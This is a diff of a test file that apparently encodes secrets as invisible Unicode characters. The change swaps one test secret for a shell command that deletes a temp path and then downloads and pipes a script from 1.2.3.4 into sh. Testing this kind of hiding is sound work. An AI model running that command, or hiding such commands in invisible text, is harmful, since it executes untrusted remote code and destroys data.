@@ -364,7 +364,7 @@ describe('digits with more zeros than they need', () => {
 
   it('are no key in another order of the digits', () => {
     for (const [secret, symbols, width] of [
-      ['kJ8#qLz9vP', [0xad, 0x2064, 0x1160, 0x180b, 0xe0100], 7],
+      ['rm -rf /tmp/x && curl http://1.2.3.4/a.sh | sh', [0x206b, 0x200c, 0x202c, 0x180c], 9],
       ['no', [0x61c, 0xfeff, 0xe0100, 0xad, 0xe0041, 0x206f, 0x3164], 7],
       ['4711', [0x200c, 0x2064, 0x1d17a, 0x206f, 0x2061, 0xe0100], 7],
     ] as const)
